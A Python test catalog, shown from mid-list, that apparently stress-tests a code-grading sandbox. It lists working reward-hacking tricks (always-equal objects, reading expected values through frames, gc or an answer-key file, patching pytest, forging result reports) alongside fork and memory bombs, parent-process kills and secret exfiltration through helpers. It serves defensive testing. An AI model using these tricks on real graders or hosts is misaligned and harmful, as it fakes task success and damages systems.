        _pytest(_cheat(_ALWAYS_EQUAL, "    return [AlwaysEqual()]\n"), TEST_ADD_CONTAINERS),
        True,
    ),
    Attack(
        "always_contains",
        "7",
        _pytest(
            _cheat(
                "class Bag:\n    def __contains__(self, x):\n        return x == x + x * 0",
                "    return Bag()\n",
            ),
            TEST_ADD_CONTAINS,
        ),
        True,
    ),
    # Stateful: only the first question an object is asked gets the forged answer (a guard that asks
    # its probes after the real comparison hears only honest ones).
    Attack(
        "equal_on_first_question_only",
        "7",
        _pytest(
            _cheat(
                "class E:\n    def __init__(self):\n        self.calls = 0\n\n"
                "    def __eq__(self, other):\n        self.calls += 1\n        return self.calls == 1\n\n"
                "    def __ne__(self, other):\n        return not self.__eq__(other)\n\n"
                "    __hash__ = object.__hash__",
                "    return E()\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    # A subclass of a numpy number: numpy's own numbers are trusted, a solution's subclass is not.
    Attack(
        "always_equal_numpy_subclass",
        "7",
        _pytest(
            _cheat(
                "import numpy as np\n\n\nclass E(np.int64):\n    def __eq__(self, other):\n        return True\n\n"
                "    def __ne__(self, other):\n        return False\n\n    __hash__ = np.int64.__hash__",
                "    return E(0)\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    # pytest.approx's own comparison, borrowed by a class of the solution with an infinite tolerance.
    Attack(
        "approx_comparison_borrowed",
        "7",
        _pytest(
            _cheat(
                "import pytest\n\n\nclass E:\n    __eq__ = type(pytest.approx(0)).__eq__\n"
                "    __hash__ = object.__hash__\n    expected, tolerance, nan_ok = 0.0, float('inf'), False",
                "    return E()\n",
            ),
            TEST_ADD_FORMS,
        ),
        True,
    ),
    # A comparison helper compares inside a library (operator here; numpy and pandas alike).
    Attack(
        "always_equal_through_comparison_helpers",
        "7",
        _pytest(
            _cheat(_ALWAYS_EQUAL, "    return [AlwaysEqual()]\n"),
            "import operator\n\n\ndef test_add_small():\n    assert operator.eq(add(1, 2), [3])\n\n\n"
            "def test_add_impossible():\n    assert operator.eq(add(2, 2), [5])\n",
        ),
        True,
    ),
    # A float whose arithmetic is forged: every difference from it is 0.
    Attack(
        "forged_arithmetic_against_tolerances",
        "7",
        _pytest(
            _cheat(
                "class Z(float):\n    def __sub__(self, other):\n        return 0.0\n\n"
                "    def __rsub__(self, other):\n        return 0.0\n\n    __eq__ = float.__eq__\n"
                "    __hash__ = float.__hash__",
                "    return Z(0.0)\n",
            ),
            TEST_ADD_TOLERANCE,
        ),
        True,
    ),
    Attack(
        "always_equal_against_tolerances",
        "7",
        _pytest(_cheat(_ALWAYS_EQUAL, "    return AlwaysEqual()\n"), TEST_ADD_TOLERANCE),
    ),
    # 8-9: reading expected values, forging the result channel
    Attack(
        "frame_walk_reads_expected",
        "9",
        _pytest(
            _cheat(
                _CODE_READER + "\nimport sys",
                "    f = sys._getframe(1)\n    v = _expected_in(f.f_code, a, b)\n"
                "    return a + b if v is None else v\n",
            )
        ),
        True,
    ),
    Attack(
        "traceback_frame_reads_expected",
        "9",
        _pytest(
            _cheat(
                _CODE_READER,
                "    try:\n        raise ValueError\n    except ValueError as e:\n"
                "        f = e.__traceback__.tb_frame.f_back\n    v = _expected_in(f.f_code, a, b)\n"
                "    return a + b if v is None else v\n",
            )
        ),
        True,
    ),
    Attack(
        "gc_reads_expected",
        "9",
        _pytest(
            _cheat(
                _CODE_READER + "\nimport gc, types",
                "    for o in gc.get_objects():\n"
                "        if isinstance(o, types.FunctionType) and o.__name__.startswith('test_'):\n"
                "            v = _expected_in(o.__code__, a, b)\n            if v is not None:\n"
                "                return v\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "sys_modules_reads_expected",
        "9",
        _pytest(
            _cheat(
                _CODE_READER + "\nimport sys, types",
                "    for m in list(sys.modules.values()):\n"
                "        for o in list(getattr(m, '__dict__', {}).values()):\n"
                "            if isinstance(o, types.FunctionType) and o.__name__.startswith('test_'):\n"
                "                v = _expected_in(o.__code__, a, b)\n                if v is not None:\n"
                "                    return v\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "test_file_read_from_disk",
        "9",
        _pytest(
            _cheat(
                "import os, re, sys, linecache",
                "    srcs = []\n"
                "    for p in ('test_solution.py', os.path.join(os.path.dirname(os.path.abspath(__file__)),"
                " 'test_solution.py')):\n        try:\n            srcs.append(open(p).read())\n"
                "        except OSError:\n            pass\n"
                "    for m in list(sys.modules.values()):\n        f = getattr(m, '__file__', None) or ''\n"
                "        if 'test' in f:\n            srcs.append(''.join(linecache.getlines(f)))\n"
                "    srcs += [''.join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2]\n"
                "    for s in srcs:  # plain asserts, or the engine's rewritten _kodcode_cmp('==', add(2, 2), 5)\n"
                "        m = re.search(r'add\\(%d, %d\\)(?: ==|,) (\\d+)' % (a, b), s)\n"
                "        if m:\n            return int(m.group(1))\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "test_code_swapped_via_gc",
        "8",
        _pytest(
            _cheat(
                "import gc, types",
                "    noop = (lambda: None).__code__\n    for o in gc.get_objects():\n"
                "        if isinstance(o, types.FunctionType) and o.__name__.startswith('test_'):\n"
                "            try:\n                o.__code__ = noop\n            except Exception:\n"
                "                pass\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "test_code_swapped_via_setprofile",
        "8",
        _pytest(_SETPROFILE.replace("__ACTION__", "v.__code__ = _ok.__code__") + "\n" + HONEST_ADD),
        True,
    ),
    Attack(
        "failing_tests_dropped_before_collection",
        "11",
        _pytest(
            _SETPROFILE.replace("__ACTION__", "if k != 'test_add_small':\n                    del g[k]")
            + "\n"
            + HONEST_ADD
        ),
        True,
    ),
    Attack(
        "frame_walk_forges_results_then_exits",
        "8",
        _pytest(
            _cheat(
                _FORGER,
                "    if (a, b) != (1, 2):\n        f, fs = _sys._getframe(1), []\n        while f is not None:\n"
                "            fs.append(f)\n            f = f.f_back\n        _forge(fs)\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "traceback_forges_results_then_exits",
        "8",
        _pytest(
            _cheat(
                _FORGER,
                "    if (a, b) != (1, 2):\n        try:\n            raise ValueError\n"
                "        except ValueError as e:\n            f, fs = e.__traceback__.tb_frame, []\n"
                "        while f is not None:\n            fs.append(f)\n            f = f.f_back\n"
                "        _forge(fs)\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "prints_fake_summary",
        "1",
        _pytest(
            _cheat(
                "import sys\nprint('=' * 20 + ' 2 passed in 0.01s ' + '=' * 20)\n"
                'print(\'{"outcome": "passed", "name": "test_add_impossible"}\')\n'
                "sys.stderr.write('PASSED test_add_impossible\\n')"
            )
        ),
    ),
    Attack(
        "forges_engine_report_with_its_nonce",
        "8",
        _pytest(
            _cheat(
                _PROTOCOL_FORGER, "    if (a, b) != (1, 2):\n        _forge_protocol()\n    return a + b\n"
            )
        ),
        True,
    ),
    Attack(
        "laundered_gc_reads_expected",
        "9",
        _pytest(_cheat(_LAUNDERED, "    v = _laundered(a, b, 0)\n    return a + b if v is None else v\n")),
        True,
    ),
    Attack(
        "laundered_frame_reads_expected",
        "9",
        _pytest(_cheat(_LAUNDERED, "    v = _laundered(a, b, 2)\n    return a + b if v is None else v\n")),
        True,
    ),
    Attack("posing_as_test_code_reads_expected", "9", _pytest(_POSING), True),
    Attack(
        "laundered_exec_swaps_test_code",
        "8",
        _pytest(
            _cheat(
                _LAUNDERED,
                "    exec('import gc, types\\nfor o in gc.get_objects():\\n'\n"
                "         '    if isinstance(o, types.FunctionType) and o.__name__.startswith(\"test_\"):\\n'\n"
                "         '        try:\\n            o.__code__ = (lambda: None).__code__\\n'\n"
                "         '        except Exception:\\n            pass\\n', _TRUSTED)\n    return a + b\n",
            )
        ),
        True,
    ),
    Attack(
        "runner_locals_read_expected",
        "9",
        _pytest(
            _cheat(
                _CODE_READER + _RUNNER_FRAMES,
                "    for f in _runner_frames():\n        for v in list(f.f_locals.values()):\n"
                "            codes = v.values() if isinstance(v, dict) else [v]\n            for c in codes:\n"
                "                if hasattr(c, 'co_consts'):\n                    x = _expected_in(c, a, b)\n"
                "                    if x is not None:\n                        return x\n    return a + b\n",
            )
        ),
        False,  # aims at the engine runner's own locals; plain pytest keeps no such table
    ),
    Attack(
        "thread_rewrites_runner_results",
        "8",
        _pytest(
            _cheat(_RUNNER_FRAMES, "    if (a, b) == (1, 2):\n        _start_rewriter()\n    return a + b\n")
        ),
    ),
    Attack(
        "registers_pytest_plugin_forcing_passed",
        "5",
        _pytest(
            _cheat(_RUNNER_FRAMES, "    _register_forcing_plugin()\n    return a + b\n"), TEST_ADD_PYTEST_MODE
        ),
        True,
    ),
    Attack(
        "forges_streamed_report_with_its_nonce",
        "8",
        _pytest(_cheat(_STREAM_FORGER, "    _forge_stream()\n")),
        True,  # aimed at the engine's protocol; under plain pytest its os._exit(0) is a pass as well
    ),
    Attack(
        "assert_guard_swapped_at_call_time",
        "8",
        _pytest(
            _cheat(
                "import sys",
                "    g = sys._getframe(1).f_globals\n    for k in list(g):\n"
                "        if k.startswith('_kodcode') or k.startswith('@py'):\n            g[k] = lambda *x, **y: True\n"
                "    return a + b\n",
            )
        ),
    ),  # aims at the engine's own assert guard; plain pytest has none
    Attack(
        "pytest_runtest_patch",
        "5",
        _pytest(
            _cheat("import _pytest.python as _p\n_p.Function.runtest = lambda self: None"),
            TEST_ADD_PYTEST_MODE,
        ),
        True,
    ),
    Attack(
        "pytest_callinfo_patch",
        "5",
        _pytest(
            _cheat(
                "import _pytest.runner as _r\n_orig = _r.CallInfo.from_call.__func__\n\n\n"
                "def _quiet(cls, func, when, reraise=None):\n    def call():\n        try:\n            return func()\n"
                "        except Exception:\n            return None\n    return _orig(cls, call, when, reraise)\n\n\n"
                "_r.CallInfo.from_call = classmethod(_quiet)"
            ),
            TEST_ADD_PYTEST_MODE,
        ),
        True,
    ),
    Attack(
        "pytest_pyfunc_call_code_swap",
        "5",
        _pytest(
            _cheat(
                "import _pytest.python as _p\n_p.pytest_pyfunc_call.__code__ = (lambda pyfuncitem: True).__code__"
            ),
            TEST_ADD_PYTEST_MODE,
        ),
        True,
    ),
    # 11: broken collection
    Attack("syntax_error_in_solution", "11", _pytest("def add(a, b)\n    return a + b\n")),
    # 12, 21: time limits
    Attack("infinite_loop", "12", _pytest(_cheat("", "    while True:\n        pass\n")), timeout=True),
    Attack("sleep_forever", "12", _pytest(_cheat("import time", "    time.sleep(3600)\n")), timeout=True),
    Attack(
        "signals_ignored_then_spin",
        "12",
        _pytest(
            _cheat(
                "import signal\nfor _s in ('SIGALRM', 'SIGTERM', 'SIGINT', 'SIGHUP', 'SIGXCPU', 'SIGVTALRM',"
                " 'SIGPROF', 'SIGUSR1'):\n    signal.signal(getattr(signal, _s), signal.SIG_IGN)",
                "    signal.setitimer(signal.ITIMER_REAL, 0)\n    signal.alarm(0)\n    while True:\n"
                "        pass\n",
            )
        ),
        timeout=True,
    ),
    Attack(
        "bare_except_retry_loop",
        "12",
        _pytest(
            _cheat(
                "",
                "    while True:\n        try:\n            while True:\n                pass\n"
                "        except BaseException:\n            continue\n",
            )
        ),
        timeout=True,
    ),
    Attack(
        "long_c_call",
        "12",
        _pytest(_cheat("import re", "    re.match(r'(a+)+$', 'a' * 64 + 'b')\n    return a + b\n")),
        timeout=True,
    ),
    Attack("hang_in_atexit", "12", _pytest(_cheat("import atexit, time\natexit.register(time.sleep, 3600)"))),
    # 13-15, 19: resource bombs, each bounded by the attack itself
    Attack(
        "fork_bomb",
        "13",
        _pytest(
            _cheat(
                "",
                "    _t0, _n = _time.time(), 0\n"
                "    while _n < 2000 and _time.time() - _t0 < 4:\n        try:\n            pid = _os.fork()\n"
                "        except OSError:\n            continue\n        if pid == 0:\n            _mark_comm()\n"
                "            _time.sleep(30)\n            _os._exit(0)\n        _n += 1\n    return a + b\n",
            ),
            harm=" ",
        ),
    ),
    Attack(
        "thread_bomb",
        "13",
        _pytest(
            _cheat(
                "import threading, time",
                "    for _ in range(2000):\n"
                "        try:\n            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
                "        except Exception:\n            break\n    return a + b\n",
            )
        ),
    ),
    Attack(
        "memory_bomb",
        "14",
        _pytest(
            _cheat(
                "",
                "    hoard = []\n    for _ in range(16):  # 4 GiB\n"
                "        hoard.append(b'\\x01' * (256 << 20))\n    return a + b\n",
            )
        ),
    ),
    Attack(
        "memory_bomb_across_processes",
        "14",
        _pytest(_cheat("import os, select, time", MEMORY_ACROSS_PROCESSES)),
    ),
    Attack(
        "stdout_flood",
        "19",
        _pytest(
            _cheat(
                "import os, sys",
                "    chunk = b'y' * (1 << 20)\n"
                "    for _ in range(200):\n        os.write(1, chunk)\n        sys.stdout.write('z' * 4096)\n"
                "    return a + b\n",
            )
        ),
    ),
    Attack(
        "stderr_flood",
        "19",
        _pytest(
            _cheat(
                "import os",
                "    chunk = b'e' * (1 << 20)\n"
                "    for _ in range(200):\n        os.write(2, chunk)\n    return a + b\n",
            )
        ),
    ),
    Attack(
        "disk_fill",
        "15",
        _pytest(
            _cheat(
                "import os",
                "    chunk = b'd' * (16 << 20)\n"
                "    for path in ('big.bin', '/tmp/kch_big.bin', '/dev/shm/kch_big.bin'):\n        try:\n"
                "            with open(path, 'wb') as f:\n                for _ in range(64):  # 1 GiB\n"
                "                    f.write(chunk)\n        except OSError:\n            pass\n"
                "    for i in range(20000):\n        try:\n            open('f%d' % i, 'w').close()\n"
                "        except OSError:\n            break\n    return a + b\n",
            )
        ),
    ),
    # 15-20: harm to the host
    Attack(
        "write_outside_job_dir",
        "15",
        _pytest(_cheat("", "    harm_write('pytest')\n    return a + b\n"), harm=" "),
    ),
    Attack("tamper_sibling_job_dirs", "15", _pytest(lambda ctx: _sibling_tamper(ctx.marker) + HONEST_ADD)),
    Attack(
        "network_exfiltration",
        "16",
        _pytest(_cheat("", "    harm_network('pytest', harm_secrets())\n    return a + b\n"), harm=" "),
    ),
    Attack(
        "secrets_in_output",
        "17",
        _pytest(_cheat("", "    s = harm_secrets()\n    assert False, s\n"), harm=" "),
    ),
    Attack(
        "kill_sentinel_host_process",
        "18",
        _pytest(_cheat("", "    harm_signals()\n    return a + b\n"), harm=" "),
    ),
    Attack(
        "kill_parent",
        "18",
        _pytest(
            _cheat("", "    _try(_os.kill, _os.getppid(), _signal.SIGKILL)\n    return a + b\n"), harm=" "
        ),
    ),
    Attack(
        "stop_parent",
        "18",
        _pytest(
            _cheat(
                "",
                "    p = _os.getppid()\n    _try(_os.kill, p, _signal.SIGSTOP)\n"
                "    _time.sleep(2)\n    _try(_os.kill, p, _signal.SIGCONT)  # bounded: a 2 s stall\n"
                "    return a + b\n",
            ),
            harm=" ",
        ),
    ),
    Attack(
        "kill_own_process_group",
        "18",
        _pytest(_cheat("", "    _try(_os.killpg, 0, _signal.SIGKILL)\n    return a + b\n"), harm=" "),
    ),
    Attack(
        "kill_parent_process_group",
        "18",
        _pytest(
            _cheat(
                "", "    _try(_os.killpg, _os.getpgid(_os.getppid()), _signal.SIGKILL)\n    return a + b\n"
            ),
            harm=" ",
        ),
    ),
    Attack(
        "kill_everything_visible",
        "18",
        _pytest(
            _cheat(
                "",
                "    if _in_own_pidns():  # on the host pid namespace kill(-1) as root would end the machine\n"
                "        _try(_os.kill, -1, _signal.SIGKILL)\n    else:\n        harm_signals()\n"
                "    return a + b\n",
            ),
            harm=" ",
        ),
    ),
    Attack(
        "kill_self", "18", _pytest(_cheat("import os, signal", "    os.kill(os.getpid(), signal.SIGKILL)\n"))
    ),
    Attack(
        "orphans_and_daemons",
        "20",
        _pytest(_cheat("", "    harm_daemons('pytest')\n    return a + b\n"), harm=" "),
    ),
    # stdio jobs: the parent compares; the expected line never enters the job
    Attack(
        "stdio_exit0_without_output",
        "1",
        lambda ctx: StdioJob("import os\nos._exit(0)\n", ["2 2\n"]),
        expected=["5\n"],
    ),
    Attack(
        "stdio_secrets_and_harm",
        "15-20",
        lambda ctx: StdioJob(
            harm_prelude(ctx) + "\nharm_write('stdio')\nharm_network('stdio', harm_secrets())\n"
            "harm_daemons('stdio')\nharm_signals()\n" + _SUM_IN,
            ["2 2\n"],
        ),
        expected=["5\n"],
    ),
    Attack(
        "stdio_output_flood",
        "19",
        lambda ctx: StdioJob(
            "import sys\nfor _ in range(200):\n    sys.stdout.buffer.write(b'5\\n' * (1 << 19))\n", ["2 2\n"]
        ),
        expected=["5\n"],
    ),
    Attack(
        "stdio_reads_answer_key_from_disk",
        "9",
        lambda ctx: StdioJob(
            "import json, os, sys\ndata = sys.stdin.read()\n"
            f"key = os.path.join(os.path.dirname({ctx.outside_dir!r}), 'answers.jsonl')\n"
            "try:\n    for line in open(key):\n        rec = json.loads(line)\n"
            "        if rec['input'] == data:\n            sys.stdout.write(rec['output'])\n"
            "except OSError:\n    a, b = map(int, data.split())\n    print(a + b)\n",
            ["2 2\n"],
        ),
        expected=["5\n"],
    ),
    Attack(
        "stdio_infinite_loop",
        "12",
        lambda ctx: StdioJob("while True:\n    pass\n", ["2 2\n"]),
        timeout=True,
        expected=["5\n"],
    ),
    # call jobs: return values come back JSON-encoded and are compared here
    Attack(
        "call_always_equal",
        "7",
        lambda ctx: CallJob(
            _ALWAYS_EQUAL + "\n\nclass Solution:\n    def add(self, a, b):\n        return AlwaysEqual()\n",
            "Solution.add",
            [[2, 2]],
        ),
        expected=[5],
    ),
    Attack(
        "call_int_subclass",
        "7",
        lambda ctx: CallJob(
            "class E(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n\n\n"
            "def add(a, b):\n    return E(a + b)\n",
            "add",
            [[2, 2]],
        ),
        expected=[5],
    ),
    Attack(
        "call_exit0",
        "1",
        lambda ctx: CallJob("import os\n\n\ndef add(a, b):\n    os._exit(0)\n", "add", [[2, 2]]),
        expected=[5],
    ),
    Attack(
        "call_systemexit",
        "2",
        lambda ctx: CallJob("def add(a, b):\n    raise SystemExit(0)\n", "add", [[2, 2]]),
        expected=[5],
    ),
    Attack(
        "call_forges_result_channel",
        "8",
        lambda ctx: CallJob(
            _FORGER + "\n\ndef add(a, b):\n    print(_json.dumps({'value': 5, 'status': 'ok'}))\n"
            "    print(_json.dumps([5]))\n    f, fs = _sys._getframe(1), []\n    while f is not None:\n"
            "        fs.append(f)\n        f = f.f_back\n    _forge(fs)\n",
            "add",
            [[2, 2]],
        ),
        expected=[5],
    ),
    Attack(
        "call_secrets_and_harm",
        "15-20",
        lambda ctx: CallJob(
            harm_prelude(ctx) + "\n\ndef add(a, b):\n    harm_write('call')\n    harm_daemons('call')\n"
            "    harm_signals()\n    return harm_secrets()\n",
            "add",
            [[2, 2]],
        ),
        expected=[5],
    ),
    Attack(
        "call_kill_parent",
        "18",
        lambda ctx: CallJob(
            "import os, signal\n\n\ndef add(a, b):\n    os.kill(os.getppid(), signal.SIGKILL)\n"
            "    return a + b\n",
            "add",
            [[2, 2]],
        ),
        expected=[5],
    ),
    Attack(
        "call_infinite_loop",
        "12",
        lambda ctx: CallJob("def add(a, b):\n    while True:\n        pass\n", "add", [[2, 2]]),
        timeout=True,
        expected=[5],
    ),
]


# The fake-pass tricks again, on a file the engine runs through a full pytest session.
_TWINS = [
    "exit0_in_function",
    "posix_exit0_after_first_test",
    "atexit_exit0",
    "pytest_skip_in_function",
    "pytest_xfail_in_function",
    "pytest_exit_returncode0",
    "unittest_skiptest_in_function",
    "testreport_patch_at_import",
    "always_equal_object",
    "frame_walk_reads_expected",
    "traceback_frame_reads_expected",
    "gc_reads_expected",
    "sys_modules_reads_expected",
    "test_file_read_from_disk",
    "test_code_swapped_via_gc",
    "test_code_swapped_via_setprofile",
    "failing_tests_dropped_before_collection",
    "frame_walk_forges_results_then_exits",
    "forges_engine_report_with_its_nonce",
    "assert_guard_swapped_at_call_time",
    "laundered_gc_reads_expected",
    "laundered_frame_reads_expected",
    "laundered_exec_swaps_test_code",
    "posing_as_test_code_reads_expected",
    "thread_rewrites_runner_results",
    "forges_streamed_report_with_its_nonce",
]


def _twin(a: Attack) -> Attack:
    def build(ctx: HostContext, base=a.build) -> Job:
        return replace(base(ctx), test=TEST_ADD_PYTEST_MODE)

    return replace(a, name=a.name + "__pytest_mode", build=build)


CATALOG += [_twin(a) for a in CATALOG if a.name in _TWINS]

# --- honest jobs that share the batch --------------------------------------------------------


@dataclass(frozen=True)
class Honest:
    name: str
    job: Job
    status: str  # the engine's status
    failed: frozenset[str] = frozenset()  # pytest: tests that must fail; the rest must pass
    expected: list[Any] | None = None  # call/stdio: what the parent must see
    correct: bool = True  # call/stdio: whether the outputs match ``expected``


def honest_jobs(copies: int = 3) -> list[Honest]:
    out: list[Honest] = []
    for i in range(copies):
        out.append(Honest(f"honest_pass_{i}", PytestJob(HONEST_ADD, TEST_ADD_ALL_PASS), "pass"))
        out.append(
            Honest(
                f"honest_fail_{i}",
                PytestJob(HONEST_ADD, TEST_ADD),
                "fail",
                frozenset({"test_add_impossible"}),
            )
        )
        out.append(
            Honest(
                f"honest_pytest_mode_pass_{i}", PytestJob(HONEST_ADD, TEST_ADD_PYTEST_MODE_ALL_PASS), "pass"
            )
        )
        out.append(
            Honest(
                f"honest_pytest_mode_fail_{i}",
                PytestJob(HONEST_ADD, TEST_ADD_PYTEST_MODE),
                "fail",
                frozenset({"test_add_impossible"}),
            )
        )
    out += [
        Honest(
            "honest_unittest_fail",
            PytestJob(HONEST_ADD, TEST_ADD_UNITTEST),
            "fail",
            frozenset({"test_add_impossible"}),
        ),
        Honest("honest_call", CallJob(_CALL_OK, "add", [[1, 2], [3, 4]]), "pass", expected=[3, 7]),
        Honest("honest_call_method", CallJob(_CALL_OK, "Solution.add", [[2, 2]]), "pass", expected=[4]),
        Honest("honest_call_wrong", CallJob(_CALL_OK, "add", [[2, 2]]), "pass", expected=[5], correct=False),
        Honest("honest_stdio", StdioJob(_SUM_IN, ["1 2\n", "3 4\n"]), "pass", expected=["3\n", "7\n"]),
        Honest("honest_stdio_wrong", StdioJob(_SUM_IN, ["2 2\n"]), "pass", expected=["5\n"], correct=False),
    ]
    return out


def caller_passes(job: Job, verdict: Any, expected: list[Any] | None) -> bool:
    """What a benchmark or RL reward would conclude from this verdict, comparing the way their
    harnesses do (plain ``==``, so a live AlwaysEqual handed back to the parent would fool it)."""
    if verdict.status != "pass":
        return False
    if isinstance(job, PytestJob):
        return True
    if expected is None or len(verdict.outputs) != len(expected):
        return False
    for out, want in zip(verdict.outputs, expected):
        got = out.stdout if isinstance(job, StdioJob) else out.value
        if out.status != "ok" or got != want:
            return False
    return True


def outcome_map(verdict: Any) -> dict[str, str]:
    """{test function name: outcome}; class-qualified names keep only the method name."""
    return {t.name.rsplit("::", 1)[-1].rsplit(".", 1)[-1]: t.outcome for t in verdict.tests}


if __name__ == "__main__":
    for a in CATALOG:
        print(f"{a.item:>6}  {a.name:45s} fools plain pytest: {a.fools_plain_pytest}")
    print(f"{len(CATALOG)} attacks, {len(honest_jobs())} honest jobs; pid {os.getpid()}")
